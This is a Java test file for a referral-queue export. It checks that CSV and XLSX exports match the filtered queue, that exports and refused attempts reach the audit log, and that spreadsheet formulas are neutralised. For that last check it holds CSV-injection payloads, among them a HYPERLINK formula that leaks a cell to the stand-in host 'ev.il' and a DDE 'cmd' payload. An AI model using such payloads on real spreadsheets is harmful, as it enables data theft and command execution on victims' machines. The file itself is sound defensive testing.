package org.consilium.referral;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import org.consilium.base.CsvWriter;
import org.consilium.base.ExportFormat;
import org.consilium.base.Languages;
import org.consilium.testing.ExportFiles;
import org.consilium.testing.MariaDbTest;
import org.consilium.testing.SignedIn;
import org.consilium.testing.TestCases;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.PageRequest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;

/** The referral log exported on MariaDB: the queue as filtered, neutralised in CSV, refused and recorded. */
@MariaDbTest
class ReferralQueueExportTest {

    private static final ReferralService.QueueFilter NEW_URGENT_FROM_PEOPLE = new ReferralService.QueueFilter(
            Set.of(ReferralStatus.NEW), Set.of(Urgency.URGENT), Set.of(SourceType.PERSON));

    @Autowired
    ReferralQueueExport export;

    @Autowired
    ReferralService referrals;

    @Autowired
    TestCases testCases;

    @Autowired
    SignedIn signedIn;

    @Autowired
    JdbcTemplate jdbc;

    private byte[] exported(String user, ReferralService.QueueFilter filter, ExportFormat format) {
        return signedIn.as(user, () -> ExportFiles.bytes(out -> export.export(filter, format, Languages.ENGLISH, out)));
    }

    private List<ReferralRow> queued(String user, ReferralService.QueueFilter filter) {
        return signedIn.as(user, () -> referrals.queue(filter, PageRequest.of(0, ReferralQueueExport.MAX_ROWS)).getContent());
    }

    private long count(String sqlCondition, Object... args) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM audit_entry WHERE " + sqlCondition, Long.class, args);
    }

    @Test
    void the_export_holds_the_queue_as_filtered_with_text_a_spreadsheet_would_run_neutralised_and_awkward_text_quoted() {
        String marker = SignedIn.unique("R");
        List<String> formulas = List.of("=HYPERLINK(\"http://ev.il/?\"&A1)" + marker, "+1+cmd|' /C calc'!A0" + marker,
                "-2+3" + marker, "@SUM(1+1)" + marker);
        for (String people : formulas) {
            testCases.newReferral(people);
        }
        // What intake types is trimmed; a text kept otherwise could still start with a tab or a carriage return.
        jdbc.update("UPDATE referral SET people_concerned = CONCAT(CHAR(9), people_concerned) WHERE id = ?",
                testCases.newReferral("Табуляція" + marker));
        jdbc.update("UPDATE referral SET people_concerned = CONCAT(CHAR(13), people_concerned) WHERE id = ?",
                testCases.newReferral("Повернення" + marker));
        String awkward = "Ігор, 12 років; мама \"Олена\"\nбабуся " + marker;
        testCases.newReferral(awkward);

        List<ReferralRow> shown = queued("intake", NEW_URGENT_FROM_PEOPLE);
        byte[] file = exported("intake", NEW_URGENT_FROM_PEOPLE, ExportFormat.CSV);
        List<List<String>> csv = ExportFiles.csv(file);
        assertThat(csv.getFirst()).containsExactly("Received", "Urgency", "Answer by", "Overdue", "Source", "From",
                "Children and adults concerned", "Problem areas", "Status", "Family");
        List<List<String>> rows = csv.subList(1, csv.size());
        assertThat(rows).extracting(r -> r.get(6))
                .containsExactlyElementsOf(shown.stream().map(r -> CsvWriter.neutralised(r.peopleConcerned())).toList());
        assertThat(rows).extracting(r -> r.get(1)).containsOnly("Urgent");
        List<String> ours = rows.stream().map(r -> r.get(6)).filter(p -> p.contains(marker)).toList();
        assertThat(ours).hasSize(formulas.size() + 3);
        assertThat(ours).filteredOn(p -> !p.equals(awkward)).allSatisfy(p -> assertThat(p).startsWith("'"));
        assertThat(ours).contains("'\tТабуляція" + marker, "'\rПовернення" + marker, awkward);
        assertThat(new String(file, StandardCharsets.UTF_8)).contains("\"Ігор, 12 років; мама \"\"Олена\"\"\nбабуся " + marker + "\"");
        assertThat(rows).flatExtracting(r -> r).noneSatisfy(cell -> assertThat(cell).matches("(?s)^[=+\\-@\t\r].*"));

        List<Row> workbook = ExportFiles.workbook(exported("supervisor", NEW_URGENT_FROM_PEOPLE, ExportFormat.XLSX));
        assertThat(workbook).hasSize(shown.size() + 1);
        assertThat(workbook.subList(1, workbook.size())).extracting(r -> r.getCellText(6))
                .containsExactlyElementsOf(shown.stream().map(ReferralRow::peopleConcerned).toList());
        assertThat(workbook.stream().filter(r -> r.getCellText(6).contains(marker))).allSatisfy(r -> {
            assertThat(r.getCell(6).getType()).isEqualTo(CellType.STRING);
            assertThat(r.getCellAsDate(0)).as("received, a date cell").isPresent();
            assertThat(r.getCellAsDate(2)).as("answer by, a date cell").isPresent();
        });
    }

    @Test
    void an_export_of_the_referral_log_is_in_the_audit_log_with_its_filters_and_row_count() {
        int listed = queued("intake", NEW_URGENT_FROM_PEOPLE).size();
        exported("intake", NEW_URGENT_FROM_PEOPLE, ExportFormat.CSV);
        String detail = jdbc.queryForObject("""
                SELECT detail FROM audit_entry WHERE username = 'intake' AND action = 'EXPORT' AND entity_type = 'referral-queue'
                ORDER BY id DESC LIMIT 1""", String.class);
        assertThat(detail).isEqualTo("CSV; status=NEW, urgency=URGENT, source=PERSON; rows " + listed);
    }

    @Test
    void a_role_that_may_not_see_the_triage_queue_is_refused_the_export_and_the_refusal_is_in_the_audit_log() {
        for (String user : List.of("curator", "school", "police", "family")) {
            long before = count("action = 'DENIED' AND username = ? AND detail LIKE 'ReferralQueueExport.export(%'", user);
            assertThatThrownBy(() -> exported(user, NEW_URGENT_FROM_PEOPLE, ExportFormat.XLSX)).as(user)
                    .isInstanceOf(AccessDeniedException.class);
            assertThat(count("action = 'DENIED' AND username = ? AND detail LIKE 'ReferralQueueExport.export(%'", user))
                    .isEqualTo(before + 1);
        }
    }
}
